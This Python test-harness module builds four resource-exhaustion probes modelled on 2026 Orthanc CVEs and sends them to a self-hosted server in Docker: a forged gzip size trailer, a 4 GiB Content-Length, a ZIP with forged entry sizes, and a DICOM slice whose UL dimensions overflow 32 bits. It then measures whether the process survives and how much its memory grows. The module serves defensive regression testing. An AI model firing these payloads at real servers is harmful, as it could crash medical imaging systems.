"""Requests shaped like the 2026 Orthanc CVE classes, safe to send to a server of one's own.

Each probe sends one request (or a store and a decode) that makes an affected Orthanc allocate what the
request claims instead of what it carries: a gzip body whose trailer declares 4 GiB (CVE-2026-5438), a
Content-Length of 4 GiB with a kilobyte behind it (CVE-2026-5440), a ZIP archive whose entry declares 4 GiB
(CVE-2026-5439), and a CT slice whose Rows and Columns are encoded as UL so that the frame size overflows
32 bits (CVE-2026-5442). None carries more than a few kilobytes.

    python -m tests.harness.hostile URL USER PASSWORD CONTAINER [PROBE...]   # one line of JSON per probe
"""

from __future__ import annotations

import base64
import contextlib
import gzip
import io
import json
import socket
import struct
import sys
import time
import zipfile
from collections.abc import Callable
from dataclasses import asdict, dataclass
from pathlib import Path
from urllib.parse import urlparse

import docker
import docker.errors
import requests
from pydicom.dataset import Dataset

from tests.harness import phantoms

FOUR_GIB = 2**32
# A forged size just under 4 GiB, so that 32-bit fields hold it.
FORGED_SIZE = FOUR_GIB - 16
# Rows x Columns x 2 bytes = 2**33 + 2**17, which is 128 KiB in 32 bits: the pixel data a file carries.
UL_ROWS, UL_COLUMNS = 65536, 65537
UL_PIXEL_BYTES = (UL_ROWS * UL_COLUMNS * 2) % 2**32
TIMEOUT_SECONDS = 60


@dataclass(frozen=True)
class Answer:
    probe: str
    cve: str
    answer: str  # status line of the reply, or what happened to the connection
    refused: bool  # no 2xx to the request that would make Orthanc allocate or decode


@dataclass(frozen=True)
class Process:
    """The Orthanc process of a container, as the host sees it."""

    pid: int
    started: str  # field 22 of /proc/PID/stat: the start time, so a new process with the same PID differs
    peak_kib: int  # VmHWM: the highest resident set size so far

    @classmethod
    def of(cls, container_pid: int) -> Process | None:
        try:
            stat = Path(f"/proc/{container_pid}/stat").read_text()
            status = Path(f"/proc/{container_pid}/status").read_text()
        except OSError:
            return None
        peak = next(int(line.split()[1]) for line in status.splitlines() if line.startswith("VmHWM:"))
        return cls(pid=container_pid, started=stat.rsplit(")", 1)[1].split()[19], peak_kib=peak)


def _status_line(reply: requests.Response) -> str:
    return f"HTTP {reply.status_code}"


def raw_post(url: str, username: str, password: str, path: str, headers: dict[str, str], body: bytes) -> str:
    """Send a hand-made POST and return the status line (or what became of the connection)."""
    parsed = urlparse(url)
    credentials = base64.b64encode(f"{username}:{password}".encode()).decode()
    head = f"POST {path} HTTP/1.1\r\nHost: {parsed.hostname}\r\nAuthorization: Basic {credentials}\r\n"
    head += "".join(f"{name}: {value}\r\n" for name, value in headers.items()) + "\r\n"
    with socket.create_connection((parsed.hostname, parsed.port or 80), timeout=TIMEOUT_SECONDS) as connection:
        connection.sendall(head.encode() + body)
        connection.shutdown(socket.SHUT_WR)
        try:
            answer = connection.recv(256)
        except OSError as exc:
            return f"(connection failed: {exc.__class__.__name__})"
    return answer.split(b"\r\n", 1)[0].decode(errors="replace") or "(connection closed, no answer)"


def _refused(status_line: str) -> bool:
    return not status_line.startswith("HTTP/1.1 2") and not status_line.startswith("HTTP 2")


def gzip_bomb(url: str, session: requests.Session, username: str, password: str) -> Answer:
    """A kilobyte of gzip whose trailer (ISIZE) declares just under 4 GiB of content."""
    body = bytearray(gzip.compress(b"\0" * 1024))
    body[-4:] = struct.pack("<I", FORGED_SIZE)
    line = raw_post(
        url,
        username,
        password,
        "/instances",
        {"Content-Type": "application/dicom", "Content-Encoding": "gzip", "Content-Length": str(len(body))},
        bytes(body),
    )
    return Answer("gzip Content-Encoding declaring 4 GiB", "CVE-2026-5438", line, _refused(line))


def huge_content_length(url: str, session: requests.Session, username: str, password: str) -> Answer:
    """A kilobyte behind a Content-Length of 4 GiB, then the sending side closed."""
    line = raw_post(
        url,
        username,
        password,
        "/instances",
        {"Content-Type": "application/dicom", "Content-Length": str(FOUR_GIB)},
        b"\0" * 1024,
    )
    return Answer("Content-Length of 4 GiB", "CVE-2026-5440", line, _refused(line))


def forged_zip() -> bytes:
    """A ZIP archive with one small entry whose local and central headers declare just under 4 GiB."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("slice.dcm", b"\0" * 4096)
    data = bytearray(buffer.getvalue())
    local = data.find(b"PK\x03\x04")
    struct.pack_into("<I", data, local + 22, FORGED_SIZE)  # uncompressed size
    central = data.find(b"PK\x01\x02")
    struct.pack_into("<I", data, central + 24, FORGED_SIZE)
    return bytes(data)


def zip_forged_sizes(url: str, session: requests.Session, username: str, password: str) -> Answer:
    reply = session.post(
        url + "/instances", data=forged_zip(), headers={"Content-Type": "application/zip"}, timeout=TIMEOUT_SECONDS
    )
    return Answer("ZIP upload with forged sizes", "CVE-2026-5439", _status_line(reply), not reply.ok)


def ul_dimensions_slice() -> bytes:
    """A CT slice whose Rows and Columns are UL, with as much pixel data as their product gives in 32 bits."""
    dataset: Dataset = phantoms.make_study(slices=1).ct[0]
    del dataset.Rows
    del dataset.Columns
    dataset.add_new(0x00280010, "UL", UL_ROWS)
    dataset.add_new(0x00280011, "UL", UL_COLUMNS)
    dataset.PixelData = b"\0" * UL_PIXEL_BYTES
    return phantoms.part10(dataset)


def ul_dimensions(url: str, session: requests.Session, username: str, password: str) -> Answer:
    """Store the slice, then ask for what decodes its pixels; whatever was stored is deleted again."""
    stored = session.post(
        url + "/instances",
        data=ul_dimensions_slice(),
        headers={"Content-Type": "application/dicom"},
        timeout=TIMEOUT_SECONDS,
    )
    if not stored.ok:
        return Answer("pixel dimensions encoded as UL", "CVE-2026-5442", f"store {_status_line(stored)}", True)
    instance = stored.json()["ID"]
    answers = []
    try:
        for route in ("/preview", "/frames/0/image-uint16", "/rendered"):
            try:
                reply = session.get(f"{url}/instances/{instance}{route}", timeout=TIMEOUT_SECONDS)
                answers.append((route, _status_line(reply), reply.ok))
            except requests.ConnectionError as exc:
                answers.append((route, f"(connection failed: {exc.__class__.__name__})", False))
    finally:
        with contextlib.suppress(requests.ConnectionError):
            session.delete(f"{url}/instances/{instance}", timeout=TIMEOUT_SECONDS)
    line = "stored, then " + ", ".join(f"{route} {answer}" for route, answer, _ in answers)
    return Answer("pixel dimensions encoded as UL", "CVE-2026-5442", line, not any(ok for *_, ok in answers))


PROBES: tuple[Callable[[str, requests.Session, str, str], Answer], ...] = (
    gzip_bomb,
    huge_content_length,
    zip_forged_sizes,
    ul_dimensions,
)


def container_pid(container: str) -> int:
    """The host PID of the container's main process (Orthanc: the entrypoint execs it); 0 once it has ended."""
    return int(docker.from_env().containers.get(container).attrs["State"]["Pid"])


def run(
    url: str, username: str, password: str, container: str, names: list[str] | None = None, settle_seconds: float = 1.0
) -> list[dict]:
    """The probes (all, or those named) in turn, each with the Orthanc process and its peak memory before and after."""
    session = requests.Session()
    session.auth = (username, password)
    results = []
    for probe in [probe for probe in PROBES if not names or probe.__name__ in names]:
        before = Process.of(container_pid(container))
        started = time.monotonic()
        try:
            answer = probe(url, session, username, password)
        except requests.RequestException as exc:
            answer = Answer(probe.__name__, "", f"(request failed: {exc.__class__.__name__})", False)
        time.sleep(settle_seconds)
        try:
            after = Process.of(container_pid(container))
        except docker.errors.NotFound:  # the container is gone: an outcome to report
            after = None
        alive = after is not None and before is not None and (after.pid, after.started) == (before.pid, before.started)
        results.append(
            {
                **asdict(answer),
                "seconds": round(time.monotonic() - started, 2),
                "same_process": alive,
                "peak_growth_mib": round((after.peak_kib - before.peak_kib) / 1024, 1) if alive else None,
            }
        )
    return results


def main(argv: list[str]) -> int:
    if len(argv) < 4 or any(name not in {probe.__name__ for probe in PROBES} for name in argv[4:]):
        print(__doc__, "probes:", ", ".join(probe.__name__ for probe in PROBES), file=sys.stderr)
        return 2
    for result in run(*argv[:4], names=argv[4:]):
        print(json.dumps(result))
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
